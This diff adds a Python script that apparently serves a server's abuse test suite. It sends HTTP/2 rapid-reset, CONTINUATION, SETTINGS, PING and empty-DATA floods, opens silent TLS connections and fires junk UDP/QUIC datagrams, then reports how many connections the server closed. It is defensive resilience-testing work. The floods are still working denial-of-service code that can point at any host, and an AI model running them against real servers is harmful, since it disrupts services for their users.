@@ -1,0 +1,138 @@
+#!/usr/bin/env python3
+"""Attacks a listener on the loopback, for the abuse suite: raw HTTP/2 frames, TLS sessions that stay silent, junk datagrams.
+
+attack.py KIND HOST PORT SECONDS CONNECTIONS prints, as JSON, how many connections were opened and how many the server ended.
+It knows nothing of the service but its address, and needs nothing but Python.
+"""
+import asyncio
+import json
+import os
+import resource
+import socket
+import ssl
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+BATCH = 500
+
+
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+SETTINGS = frame(4, 0, 0)
+# GET / of the authority "x", by HPACK's static table.
+ASK = b"\x82\x86\x84\x41\x01x"
+NEVER_INDEXED = b"\x10\x01a\x01b"
+
+
+def rapid_reset():
+    stream = 1
+    while stream < 2**31 - 2 * BATCH:
+        streams = range(stream, stream + 2 * BATCH, 2)
+        yield b"".join(frame(1, 5, each, ASK) + frame(3, 0, each, b"\0\0\0\x08") for each in streams)
+        stream += 2 * BATCH
+
+
+def forever(first, repeated):
+    yield first
+    while True:
+        yield repeated * BATCH
+
+
+FLOODS = {
+    "rapid_reset": rapid_reset,
+    "continuation": lambda: forever(frame(1, 1, 1, ASK), frame(9, 0, 1, NEVER_INDEXED * 8)),
+    "empty_data": lambda: forever(frame(1, 4, 1, ASK), frame(0, 0, 1)),
+    "settings": lambda: forever(b"", SETTINGS),
+    "ping": lambda: forever(b"", frame(6, 0, 0, b"honestly")),
+}
+
+
+class Attack:
+    def __init__(self, host, port, seconds):
+        self.host, self.port, self.end = host, port, time.monotonic() + seconds
+        self.opened = self.closed = 0
+
+    def goes_on(self):
+        return time.monotonic() < self.end
+
+    async def connect(self, tls=None):
+        opening = asyncio.open_connection(self.host, self.port, ssl=tls, server_hostname="localhost" if tls else None)
+        streams = await asyncio.wait_for(opening, 10)
+        self.opened += 1
+        return streams
+
+    async def keep(self, once):
+        """Attacks again whenever the server has ended it."""
+        while self.goes_on():
+            try:
+                await once()
+                self.closed += 1
+            except (OSError, ssl.SSLError, asyncio.TimeoutError, asyncio.IncompleteReadError):
+                self.closed += 1
+            # A client that is refused at once would otherwise measure how fast this program can call.
+            await asyncio.sleep(0.05)
+
+    async def flood(self, kind):
+        reader, writer = await self.connect()
+
+        async def drain():
+            while await reader.read(65536):
+                pass
+
+        listening = asyncio.create_task(drain())
+        try:
+            writer.write(PREFACE + SETTINGS)
+            for piece in FLOODS[kind]():
+                if listening.done() or not self.goes_on():
+                    break
+                writer.write(piece)
+                await writer.drain()
+                await asyncio.sleep(0)
+        finally:
+            listening.cancel()
+            writer.transport.abort()
+
+    async def idle_tls(self, tls):
+        reader, writer = await self.connect(tls)
+        left = max(self.end - time.monotonic(), 0.01)
+        try:
+            await asyncio.wait_for(reader.read(), left)
+        except asyncio.TimeoutError:
+            self.closed -= 1
+        finally:
+            writer.transport.abort()
+
+    async def datagrams(self):
+        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        sender.connect((self.host, self.port))
+        while self.goes_on():
+            # Half of them begin as a first packet of QUIC version 1 does.
+            for lead in (os.urandom(18), b"\xc3\0\0\0\1\x08" + os.urandom(8) + b"\0\0\x44\x9e"):
+                try:
+                    sender.send(lead + os.urandom(1182))
+                    self.opened += 1
+                except ConnectionRefusedError:
+                    self.closed += 1
+            await asyncio.sleep(0.0005)
+
+
+async def main():
+    kind, host, port, seconds, connections = sys.argv[1:]
+    attack = Attack(host, int(port), float(seconds))
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    if kind == "datagrams":
+        await attack.datagrams()
+    elif kind == "idle_tls":
+        tls = ssl.create_default_context()
+        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
+        await asyncio.gather(*(attack.keep(lambda: attack.idle_tls(tls)) for _ in range(int(connections))))
+    else:
+        await asyncio.gather(*(attack.keep(lambda: attack.flood(kind)) for _ in range(int(connections))))
+    print(json.dumps({"opened": attack.opened, "closed": max(attack.closed, 0)}))
+
+
+asyncio.run(main())
